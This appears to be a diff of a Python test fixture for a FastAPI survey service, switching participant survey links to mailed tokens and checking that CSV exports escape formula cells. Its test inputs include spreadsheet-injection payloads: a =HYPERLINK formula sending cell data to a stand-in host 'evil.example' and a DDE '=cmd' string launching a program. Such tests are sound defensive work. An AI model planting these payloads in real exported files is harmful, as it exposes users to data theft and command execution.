@@ -21,6 +21,7 @@ from fastapi.testclient import TestClient
 from service.spreadsheets import FORMULA_STARTS, cell, csv_text
 from tests.factories import create_wave, make_key, open_wave
 from tests.forms.answers import all_answers, as_fields
+from tests.mail import mail_links
 
 CSV = {"accept": "text/csv"}
 EVIL_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"Organisation")'
@@ -60,24 +61,28 @@ def nasty(app: FastAPI, client: TestClient) -> dict[str, Any]:
     assert client.put("/api/v1/units", json={"units": UNITS}, headers=hr).status_code == 200
     wave = create_wave(client, hr, name="=cmd|' /C calc'!A0", min_group_size=3)
     people = [
-        {"unit_key": team, "attributes": {"tenure_band": TENURE[i % 3], "location": LOCATION[i % 3]}}
-        for team in ("@team", "team=", "team-lf")
+        {
+            "unit_key": team,
+            "email": f"p{t}-{i}@example.com",
+            "attributes": {"tenure_band": TENURE[i % 3], "location": LOCATION[i % 3]},
+        }
+        for t, team in enumerate(("@team", "team=", "team-lf"))
         for i in range(PER_TEAM)
     ]
     uploaded = client.post(
         f"/api/v1/waves/{wave['id']}/participants", json={"participants": people}, headers={**hr, **CSV}
     )
     assert uploaded.status_code == 201, uploaded.text
-    links = _read(uploaded.text, len(people))
-    assert [r["unit_key"] for r in links[:1]] == ["'@team"] and links[0]["tenure_band"] == "'=1+1"
-    assert {r["location"] for r in links} == {"'+31", "A\nB", 'C\n"D"'}
+    counts = _read(uploaded.text, 3)
+    assert [(r["unit_key"], r["created"]) for r in counts][:1] == [("'@team", str(PER_TEAM))]
     open_wave(client, hr, wave["id"])
+    tokens = mail_links(app, [person["email"] for person in people])
     instrument = app.state.instruments[("career-safety", 1)].instrument
     text_items = [item.id for item in instrument.items if item.type == "text"]
-    for n, link in enumerate(links):
+    for n, token in enumerate(tokens):
         answers = all_answers(instrument, n)
         answers.update({item: COMMENTS[n % len(COMMENTS)] for item in text_items})
-        assert client.post(link["url"].removeprefix("http://testserver"), data=as_fields(answers)).status_code == 200
+        assert client.post(f"/s/{token}", data=as_fields(answers)).status_code == 200
     return {"id": wave["id"], "hr": hr, "dashboard": dashboard}
 
 
